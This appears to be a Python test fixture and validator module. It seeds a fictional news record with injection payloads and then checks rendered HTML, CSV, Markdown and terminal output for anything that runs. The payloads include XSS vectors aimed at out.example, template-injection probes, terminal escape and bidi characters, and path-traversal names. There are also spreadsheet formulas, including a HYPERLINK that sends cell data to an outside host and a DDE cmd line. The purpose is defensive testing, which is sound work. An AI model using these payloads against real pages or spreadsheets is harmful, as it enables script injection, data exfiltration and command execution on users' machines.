"""A record in which every word from outside tries to do something, and judges of what becomes of it."""

from __future__ import annotations

import csv
import dataclasses
import io
import re
from collections.abc import Iterator
from html.parser import HTMLParser
from typing import Any

from markdown_it import MarkdownIt

import fictional
from dateline.records import Record

# What a report might smuggle in: it opens a dialog, asks a host, colours a terminal, runs a formula.
MARKUP = (
    "<script>alert(1)</script><img src=x onerror=alert(2)><svg/onload=alert(3)></textarea></title></script>"
    '<script src="https://out.example/a.js"></script><a href="javascript:alert(4)">x</a>'
    '<a href="data:text/html,<script>alert(5)</script>">x</a><iframe src="https://out.example/b"></iframe>'
    '<style>@import "https://out.example/c.css"</style><link rel="stylesheet" href="//out.example/d.css">'
    '<meta http-equiv="refresh" content="0;url=https://out.example/e"><base href="https://out.example/f/">'
    '<form action="https://out.example/g"><button autofocus onfocus="alert(6)">x</button></form>'
    "<!-- --!> <![CDATA[ ]]> \" onmouseover=\"alert(7)\" ' onclick='alert(8)' `onload=alert(9)` "
    "{{7*7}}{% raw %}${7*7}#{7*7}<%= 7*7 %> "
    "[x](javascript:alert(10)) ![x](https://out.example/h.png) <https://out.example/i> [^1]: x | y | z\n"
    '# heading\n- item\n| a | b |\n```\n#import "x"; #eval("1") $x$ @ref \\ // \n'
    "\x1b[31m\x1b]0;owned\x07\x9b2J\u202eevil\u2066\u200b\x00\x08\x7f&lt;script&gt;&#60;script&#62;\ufeff"
)
FORMULAS = (
    '=HYPERLINK("https://out.example/?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1", "＝1+1",
    "=cmd|' /C calc'!A0",
)  # fmt: skip
NAMES = ("../../outside/x", "..\\..\\outside", "/etc/outside", "a\x00b", "CON", "x" * 400, "<img src=x>.html")
LONG = "W" * 5000
_TOLD = {
    "title", "outlet", "byline", "agency", "credits", "name", "text", "role", "affiliation", "reason",
    "source",
    "channel", "via", "why", "holder", "actors", "basis", "victims", "admin1", "admin2", "region",
    "notes",
}  # fmt: skip


def record() -> Record:
    """The fictional war, with something smuggled into every word of it and into the ids of reports."""
    return _Smuggler().record(fictional.record())


class _Smuggler:
    """Puts something in front of and behind every word; equal words stay equal, and quotes stay quotes."""

    def __init__(self) -> None:
        self._words: dict[str, str] = {}
        self._ids: dict[str, str] = {}

    def record(self, found: Record) -> Record:
        self._ids = {
            r.id: f"{NAMES[n % len(NAMES)]}{FORMULAS[n]}{MARKUP}" for n, r in enumerate(found.reports)
        }
        made: Record = self._any(found, "")
        return made

    def _any(self, value: Any, field: str) -> Any:
        if isinstance(value, str):
            return self._text(value, field)
        if isinstance(value, tuple):
            return tuple(self._any(v, field) for v in value)
        if dataclasses.is_dataclass(value) and not isinstance(value, type):
            changes = {f.name: self._any(getattr(value, f.name), f.name) for f in dataclasses.fields(value)}
            if "received_text" in changes:
                changes["url"] = f"javascript:alert(11)//{MARKUP}"
            return dataclasses.replace(value, **_shifted(value, changes))
        return value

    def _text(self, value: str, field: str) -> str:
        if value in self._ids:
            return self._ids[value]
        if field == "received_text":
            return f"{MARKUP}{LONG} {value} {MARKUP}"
        if field in _TOLD and value:
            front = FORMULAS[len(self._words) % len(FORMULAS)]
            return self._words.setdefault(value, f"{front} {value} {MARKUP}{LONG}")
        return value


def _shifted(value: Any, changes: dict[str, Any]) -> dict[str, Any]:
    """Offsets by as much as stands in front of every text; a quote reaches over what was smuggled in."""
    front = len(MARKUP) + len(LONG) + 1
    if "quote" in changes and isinstance(changes.get("start"), int):
        text = f"{MARKUP}{LONG} {fictional.TEXTS[value.report][0]} {MARKUP}"
        changes |= {"start": 0, "end": changes["end"] + front, "quote": text[: changes["end"] + front]}
    elif isinstance(changes.get("start"), int) and isinstance(changes.get("end"), int):
        changes |= {"start": 0, "end": changes["end"] + front}
    return changes


# --- judges ----------------------------------------------------------------------------------------------

_UNSEEN = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b-\u200f\u202a-\u202e\u2066-\u2069\ufeff]")
_RUNS = {
    "script",
    "iframe",
    "object",
    "embed",
    "base",
    "applet",
    "frame",
    "frameset",
    "img",
    "audio",
    "video",
}
_LEADS = (
    "href",
    "src",
    "action",
    "formaction",
    "xlink:href",
    "data",
    "poster",
    "background",
    "srcset",
    "content",
)
_OWN = re.compile(r"(?:\.\./)?static/[a-z.]+|/static/[a-z.]+")


class _Page(HTMLParser):
    """The elements and words of a page."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str]]] = []
        self.words: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, {name: value or "" for name, value in attrs}))

    def handle_data(self, data: str) -> None:
        self.words.append(data)


def faults_of_html(text: str, *, own_style: str = "", unseen: bool = True) -> Iterator[str]:
    """What in a page runs, loads, leads elsewhere or hides; nothing where all is text."""
    page = _Page()
    page.feed(text.replace(f"<style>\n{own_style}</style>", "", 1) if own_style else text)
    page.close()
    for tag, attributes in page.elements:
        told = f"<{tag} {attributes}>"[:200]
        if tag == "style" or (tag in _RUNS and not _OWN.fullmatch(attributes.get("src", ""))):
            yield f"an element that runs or loads: {told}"
        if any(name.startswith("on") for name in attributes):
            yield f"a handler: {told}"
        if tag == "meta" and attributes.get("http-equiv", "").lower() not in ("", "content-security-policy"):
            yield f"a page that leads away: {told}"
        yield from (f"an address outside: {told}" for name in _LEADS if _leads_out(attributes.get(name, "")))
    if unseen and _UNSEEN.search("".join(page.words) + text.replace("\r", "")):
        yield "characters that hide or turn the line"


def _leads_out(address: str) -> bool:
    return bool(re.match(r"\s*(?:[a-z][a-z0-9+.-]*:|//|\\)", address, re.IGNORECASE))


def faults_of_table(text: str, delimiter: str = ",") -> Iterator[str]:
    """Cells that a spreadsheet would run."""
    csv.field_size_limit(10_000_000)
    for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter):
        for cell in row:
            if cell.startswith(
                ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
            ) and not _is_number(cell):
                yield f"a formula: {cell[:60]!r}"


def _is_number(cell: str) -> bool:
    return re.fullmatch(r"-?\d+(\.\d+)?(e[+-]?\d+)?", cell) is not None


def faults_of_markdown(text: str) -> Iterator[str]:
    """What a reader of Markdown that takes HTML would run, load or link."""
    shown = MarkdownIt("commonmark", {"html": True, "linkify": False}).enable("table").render(text)
    yield from faults_of_html(shown)


def faults_of_words(text: str) -> Iterator[str]:
    """Characters that steer a terminal, hide, or turn the line around."""
    found = _UNSEEN.search(text)
    if found:
        around = text[max(0, found.start() - 30) :][:60]
        yield f"a character that no terminal should get: {found[0]!r} in {around!r}"
